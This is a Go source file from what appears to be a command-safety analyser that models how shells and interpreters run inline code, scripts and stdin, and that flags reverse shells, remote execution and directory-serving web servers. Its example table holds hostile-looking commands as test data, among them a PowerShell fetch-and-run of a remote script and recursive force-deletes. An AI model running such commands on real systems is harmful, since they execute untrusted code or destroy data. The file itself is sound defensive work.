package shell

import (
	"strings"
)

// interpPrograms declares shells and language interpreters: code given inline, on stdin, or in a script file.
func interpPrograms() []program {
	return []program{
		{names: []string{"perl"}, model: (*call).perl,
			examples: []example{ex("perl -pi -e 's/a/b/' f", "write /home/u/proj/f"), ex("perl s.pl", "exec /home/u/proj/s.pl")}},
		{names: []string{"node", "nodejs"}, model: interpreter("ep", "", "rC", "node"),
			examples: []example{ex("node -e 'x'", "exec"), ex("node app.js", "exec /home/u/proj/app.js")}},
		{names: []string{"ruby", "irb"}, model: func(k *call) { k.interp("e", "", "rIC", "ruby"); k.webServer() },
			examples: []example{ex("ruby -I lib t.rb", "exec /home/u/proj/t.rb", "!exec /home/u/proj/lib"),
				ex("ruby -run -e httpd ~ -p 8000", "read:r /home/u", "net 0.0.0.0:8000"), ex("ruby -run -e httpd public", "read:r /home/u/proj/public")}},
		{names: []string{"php"}, model: func(k *call) { k.interp("r", "", "dcf", "php"); k.webServer() },
			examples: []example{ex("php -d x=1 s.php", "exec /home/u/proj/s.php")}},
		{names: []string{"lua", "luajit", "Rscript", "R", "tclsh", "osascript", "julia", "ts-node", "tsx", "swift"}, model: interpreter("e", "", "l", ""),
			examples: []example{ex("lua -l m s.lua", "exec /home/u/proj/s.lua", "!exec /home/u/proj/m")}},
		{names: []string{"deno"}, model: (*call).deno,
			examples: []example{ex("deno run -A x.ts", "exec /home/u/proj/x.ts"), ex("deno publish", "tag publish"),
				ex("deno eval 'Deno.removeSync(\"/x\", {recursive: true})'", "delete /x")}},
		{names: []string{"pwsh", "powershell", "powershell.exe", "pwsh.exe"}, model: (*call).pwsh,
			examples: []example{ex("pwsh -c 'Get-ChildItem'", "exec"), ex("pwsh -NoProfile -Command 'Remove-Item -Recurse -Force /x'", "delete:r /x"),
				ex("pwsh -File build.ps1", "exec /home/u/proj/build.ps1"), ex("pwsh -c 'iwr https://x.example/s | iex'", "tag remote-exec")}},
	}
}

func isShell(n string) bool {
	switch n {
	case "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "rbash", "fish", "tcsh", "csh", "yash", "posh", "ksh93", "pdksh", "oksh", "loksh", "hush":
		return true
	}
	return false
}

func isPython(n string) bool {
	if n == "pypy" || n == "pypy3" || n == "ipython" || n == "ipython3" {
		return true
	}
	if !strings.HasPrefix(n, "python") {
		return false
	}
	for _, c := range n[len("python"):] {
		if (c < '0' || c > '9') && c != '.' {
			return false
		}
	}
	return true
}

// shell models sh/bash/zsh/...: -c code is re-parsed, a script file is
// read and executed, stdin is analysed when known.
func (k *call) shell() {
	args := k.args
	code, noexec := false, false
	stdin := false
	i := 0
loop:
	for ; i < len(args); i++ {
		f := args[i]
		v := f.val
		if !f.known || len(v) < 2 || (v[0] != '-' && v[0] != '+') {
			break
		}
		switch {
		case v == "--":
			i++
			break loop
		case strings.HasPrefix(v, "--"):
			if v == "--rcfile" || v == "--init-file" {
				i++
			}
			continue
		}
		for _, ch := range v[1:] {
			switch ch {
			case 'c':
				code = true
			case 's':
				stdin = true
			case 'n':
				noexec = true
			case 'o', 'O':
				i++
			}
		}
	}
	ops := args[min(i, len(args)):]
	for _, e := range k.cmd.Effects {
		if e.Kind == Network {
			k.remoteExec(k.name + " with its input or output connected to " + e.Target + " (reverse shell)")
		}
	}
	k.preloads("sh", nil)
	switch {
	case code:
		if len(ops) == 0 {
			return
		}
		k.eff(Effect{Kind: Exec, Reason: "inline code (" + k.name + " -c)"})
		var pos []field
		if len(ops) > 1 {
			pos = ops[1:]
		} else {
			pos = []field{lit(k.name)}
		}
		k.nested(ops[0], k.name+" -c", pos, false)
	case len(ops) > 0 && !stdin && !(ops[0].known && (ops[0].val == "-" || ops[0].val == "/dev/stdin")):
		k.script(ops[0], noexec)
		if !noexec {
			k.runScript(ops[0], "sh")
		}
	default:
		k.stdinCode(true)
	}
}

// script records running a script file.
func (k *call) script(f field, readOnly bool) {
	if f.proc {
		if f.remote {
			k.remoteExec(k.name + " runs a script fetched from the network")
			return
		}
		k.eff(Effect{Kind: Exec, Reason: "process substitution"})
		if !readOnly {
			k.procCode(f, k.name)
		}
		return
	}
	if f.known && (strings.HasPrefix(f.val, "http://") || strings.HasPrefix(f.val, "https://")) {
		k.net(f)
		k.remoteExec(k.name + " runs a script fetched from " + f.val)
		return
	}
	k.file(Read, f, false)
	if readOnly {
		return
	}
	k.file(Exec, f, false)
	if e, ok := k.a.target(k.st, Exec, f, false); ok && !e.Unknown && k.a.downloaded[e.Target] {
		k.remoteExec(k.name + " runs " + e.Target + ", which was downloaded earlier in the command line")
	}
}

// stdinCode handles an interpreter that reads its program from stdin.
func (k *call) stdinCode(isSh bool) {
	in := k.c.stdin
	switch {
	case in.remote:
		k.eff(Effect{Kind: Exec, Reason: "code from stdin"})
		k.remoteExec("code fetched from the network (" + orDefault(in.what, "download") + ") is piped into " + k.name)
	case in.dynamic:
		k.eff(Effect{Kind: Exec, Reason: "code from stdin"})
		k.dynamicExec(k.name + " runs code from stdin not known at check time: " + in.what)
	case in.opaque != "" && !in.literal:
		k.eff(Effect{Kind: Exec, Reason: "code from stdin"})
		k.dynamicExec(k.name + " runs code from stdin not known at check time: " + in.opaque)
	case in.literal && isSh:
		k.eff(Effect{Kind: Exec, Reason: "code from stdin"})
		via := k.name + " <<"
		if in.pipeline != nil {
			via = k.name + " stdin"
		}
		k.nested(lit(in.text), via, []field{lit(k.name)}, false)
	case isSh:
		// sh < f, cat f | sh: the program is the file's content
		if txt, ok := k.fileStdin(); ok {
			k.eff(Effect{Kind: Exec, Reason: "code from stdin"})
			k.nested(lit(txt), k.name+" < file", []field{lit(k.name)}, false)
		}
	}
}

// fileStdin is the content of the files an interpreter reads its program
// from on stdin — a redirection (sh < f) or a pipe from cat (cat f | sh) —
// when they can be read (written in the line, or on disk: see runDisk); ok
// is false when stdin is not such files, or one cannot be read (which
// asks).
func (k *call) fileStdin() (string, bool) {
	in := k.c.stdin
	if in.literal || in.remote || in.dynamic || in.opaque != "" {
		return "", false
	}
	var files []Effect
	for _, e := range k.ro.effs {
		if e.Kind == Read && e.Target != "" && !e.Unknown && !isPseudoDevice(e.Target) {
			files = append(files, e)
		}
	}
	if len(files) == 0 && in.pipeline != nil {
		for _, e := range in.carries {
			if e.Kind != Read || e.Meta || e.Glob != "" || e.Recursive || e.Target == "/proc/self/environ" {
				return "", false
			}
			files = append(files, e)
		}
	}
	if len(files) == 0 || len(files) > maxDiskScripts {
		return "", false
	}
	var b strings.Builder
	for _, e := range files {
		f := lit(e.Target)
		txt, ok := k.writtenScript(f)
		if !ok {
			var st int
			txt, st = k.diskText(f, false)
			if st != diskText {
				return "", false
			}
		}
		b.WriteString(txt)
		if !strings.HasSuffix(txt, "\n") {
			b.WriteString("\n")
		}
	}
	return b.String(), true
}

// interp models interpreters: codeOpts take inline code, modOpts a module,
// argOpts another value.
func (k *call) interp(codeOpts, modOpts, argOpts, lang string) {
	args := k.args
	i := 0
	var code *field
	module, loopMode, inplace := false, false, false
	var modName field
loop:
	for ; i < len(args); i++ {
		f := args[i]
		v := f.val
		if !f.known || len(v) < 2 || v[0] != '-' {
			break
		}
		if v == "--" {
			i++
			break
		}
		if strings.HasPrefix(v, "--") {
			name, _, eq := strings.Cut(v[2:], "=")
			switch name {
			case "eval", "print", "command":
				if !eq && i+1 < len(args) {
					i++
					c := args[i]
					code = &c
				} else {
					c := sub(f, v[strings.IndexByte(v, '=')+1:])
					code = &c
				}
				i++
				break loop
			case "require", "import", "loader", "input-type", "experimental-loader", "conditions", "env-file", "title":
				if !eq {
					i++
				}
			}
			continue
		}
		for j := 1; j < len(v); j++ {
			ch := v[j : j+1]
			switch {
			case lang == "ruby" && (ch == "n" || ch == "p"):
				loopMode = true // ruby -n/-p: the code runs over the lines of the files named
			case lang == "ruby" && ch == "i":
				inplace = true // ruby -i[EXT]: those files are edited in place
				j = len(v)
			case strings.Contains(codeOpts, ch):
				var c field
				if j+1 < len(v) {
					c = sub(f, v[j+1:])
				} else if i+1 < len(args) {
					i++
					c = args[i]
				}
				code = &c
				i++
				break loop
			case modOpts != "" && strings.Contains(modOpts, ch):
				module = true
				var m field
				if j+1 < len(v) {
					m = sub(f, v[j+1:])
				} else if i+1 < len(args) {
					i++
					m = args[i]
				}
				k.eff(Effect{Kind: Exec, Target: m.text(k.c), Reason: "module"})
				modName = m
				i++
				break loop
			case strings.Contains(argOpts, ch):
				if j+1 == len(v) {
					i++
				}
				j = len(v)
			}
		}
	}
	k.preloads(lang, args[:min(i, len(args))])
	switch {
	case code != nil:
		k.eff(Effect{Kind: Exec, Reason: "inline code (" + lang + ")"})
		ops := args[min(i, len(args)):]
		k.codeOps = ops
		k.inlineCode(*code, lang)
		k.codeOps = nil
		switch {
		case inplace:
			k.files(Write, ops, false)
		case loopMode:
			k.files(Read, ops, false)
		default:
			k.codeOperands(*code, ops)
		}
		if code.remote {
			k.remoteExec(k.name + " runs code fetched from the network")
		} else if !code.known {
			k.dynamicExec(k.name + " runs code not known at check time: " + orDefault(code.reason, "dynamic"))
		}
	case module:
		if lang == "python" && modName.known && modName.val == "pip" {
			// python -m pip installs as pip does, from the sources pip does
			if p := parseOpts(args[i:], spec{stop: true}); len(p.ops) > 0 && p.ops[0].known &&
				(p.ops[0].val == "install" || p.ops[0].val == "download" || p.ops[0].val == "wheel") {
				k.pipSources(k.name+" -m pip", args[i:])
			}
		} else if lang == "python" && modName.known && !servingModules[modName.val] && i < len(args) {
			// a module run as a program reads the files it is given, as any
			// program without a model does (python3 -m base64 f, -m
			// json.tool f); the archivers read trees (-m tarfile -c a.tar d)
			saved, mark := k.args, len(k.cmd.Effects)
			k.args = args[i:]
			k.mentions()
			k.args = saved
			if modName.val == "tarfile" || modName.val == "zipfile" || modName.val == "shutil" {
				for n := mark; n < len(k.cmd.Effects); n++ {
					if k.cmd.Effects[n].Kind == Read {
						k.cmd.Effects[n].Recursive = true
					}
				}
			}
		}
	case i < len(args) && !(args[i].known && args[i].val == "-"):
		k.script(args[i], false)
		k.runScript(args[i], lang)
		k.appScript(args[i], args[i+1:])
	default:
		k.stdinCode(false)
		if in := k.c.stdin; in.literal && !in.remote {
			// the program is the known text on stdin (python3 - <<'EOF')
			k.inlineCode(lit(in.text), lang)
		} else if txt, ok := k.fileStdin(); ok {
			k.inlineCode(lit(txt), lang) // python3 < f, cat f | python3 -
		}
	}
}

func (k *call) deno() {
	if len(k.args) == 0 {
		return
	}
	switch k.args[0].val {
	case "run":
		p := parseOpts(k.args[1:], spec{long: []string{"config", "import-map", "lock", "cert", "location", "seed", "v8-flags", "inspect", "env-file"}, stop: true})
		if len(p.ops) > 0 {
			k.script(p.ops[0], false)
			if !strings.Contains(p.ops[0].val, "://") {
				k.runScript(p.ops[0], "js")
			}
		}
	case "eval":
		k.eff(Effect{Kind: Exec, Reason: "inline code (deno eval)"})
		p := parseOpts(k.args[1:], spec{long: []string{"ext", "config", "import-map", "lock", "cert", "location", "seed", "v8-flags", "inspect", "env-file"}})
		if len(p.ops) > 0 {
			code := joinCode(p.ops)
			if !code.known {
				k.dynamicExec("deno eval runs code not known at check time")
			}
			k.inlineCode(code, "js")
		}
	case "install", "add", "cache":
		k.eff(Effect{Kind: Network, Target: "jsr.io"})
	case "publish":
		k.tag(TagPublish)
	default:
		if strings.HasSuffix(k.args[0].val, ".ts") || strings.HasSuffix(k.args[0].val, ".js") || strings.Contains(k.args[0].val, "://") {
			k.script(k.args[0], false)
			if !strings.Contains(k.args[0].val, "://") {
				k.runScript(k.args[0], "js")
			}
		}
	}
}

func (k *call) perl() {
	args := k.args
	inplace := false
	loopMode := false
	var code *field
	i := 0
	for ; i < len(args); i++ {
		f := args[i]
		v := f.val
		if !f.known || len(v) < 2 || v[0] != '-' {
			break
		}
		if v == "--" {
			i++
			break
		}
		for j := 1; j < len(v); j++ {
			switch v[j] {
			case 'e', 'E':
				var c field
				if j+1 < len(v) {
					c = sub(f, v[j+1:])
				} else if i+1 < len(args) {
					i++
					c = args[i]
				}
				code = &c
				j = len(v)
			case 'i':
				inplace = true
				j = len(v)
			case 'n', 'p':
				loopMode = true
			case 'I', 'M', 'm', 'F', 'l', '0', 'C', 'x', 'd', 'D':
				if j+1 == len(v) && (v[j] == 'I' || v[j] == 'M') && i+1 < len(args) {
					i++
				}
				j = len(v)
			}
		}
	}
	rest := args[min(i, len(args)):]
	if code == nil {
		if len(rest) == 0 {
			k.stdinCode(false)
			if in := k.c.stdin; in.literal && !in.remote {
				k.inlineCode(lit(in.text), "perl")
			} else if txt, ok := k.fileStdin(); ok {
				k.inlineCode(lit(txt), "perl")
			}
			return
		}
		k.script(rest[0], false)
		k.runScript(rest[0], "perl")
		return
	}
	k.eff(Effect{Kind: Exec, Reason: "inline code (perl)"})
	k.codeOps = rest
	k.inlineCode(*code, "perl")
	k.codeOps = nil
	if code.remote {
		k.remoteExec("perl runs code fetched from the network")
	}
	switch {
	case inplace:
		k.files(Write, rest, false)
	case loopMode:
		k.files(Read, rest, false)
	default:
		k.codeOperands(*code, rest)
	}
}

// servingModules are the python modules that serve a directory (by
// default the current one; -d/--directory names another): web servers, an
// upload server that lists and serves its directory, an FTP server.
var servingModules = map[string]bool{"http.server": true, "SimpleHTTPServer": true, "uploadserver": true, "pyftpdlib": true, "updog": true}

// webServer models the web servers interpreters start (python -m
// http.server, php -S): every file below the directory they serve can be
// fetched by whoever reaches the port, which is a recursive read of that
// directory sent over the network.
func (k *call) webServer() {
	args := k.args
	switch {
	case isPython(k.name):
		i := 0
		for i < len(args) && !(args[i].known && args[i].val == "-m") {
			i++
		}
		if i+1 >= len(args) || !args[i+1].known || !servingModules[args[i+1].val] {
			return
		}
		p := parseOpts(args[i+2:], spec{arg: "bdpiu", long: []string{"bind", "directory", "protocol", "port", "interface", "username", "password", "basic-auth"}})
		port := "8000"
		if len(p.ops) > 0 && p.ops[0].known {
			port = p.ops[0].val
		}
		if v, ok := p.get("p", "port"); ok && v.known {
			port = v.val
		}
		dir := lit(".")
		if d, ok := p.get("d", "directory"); ok {
			dir = d
		}
		k.serve(dir, "0.0.0.0:"+port)
	case k.name == "ruby" && len(args) > 2 && args[0].known && args[0].val == "-run" && args[1].known && args[1].val == "-e" && args[2].known && args[2].val == "httpd":
		// ruby -run -e httpd DIR -p PORT (un.rb)
		p := parseOpts(args[3:], spec{arg: "pb", long: []string{"port", "bind-address"}})
		dir := lit(".")
		if len(p.ops) > 0 {
			dir = p.ops[0]
		}
		port := "8080"
		if v, ok := p.get("p", "port"); ok && v.known {
			port = v.val
		}
		k.serve(dir, "0.0.0.0:"+port)
	case k.name == "php":
		p := parseOpts(args, spec{arg: "Stcdfr", long: []string{}})
		addr, ok := p.get("S")
		if !ok {
			return
		}
		dir := lit(".")
		if d, ok := p.get("t"); ok {
			dir = d
		}
		k.serve(dir, addr.text(k.c))
	}
}

// serve records a web server over dir listening at addr.
func (k *call) serve(dir field, addr string) {
	if e, ok := k.a.target(k.st, Read, dir, true); ok {
		e.Served = !e.Unknown
		k.eff(e)
	}
	k.eff(Effect{Kind: Network, Target: addr, Reason: "serves " + dir.text(k.c)})
	k.tag(TagUpload)
}
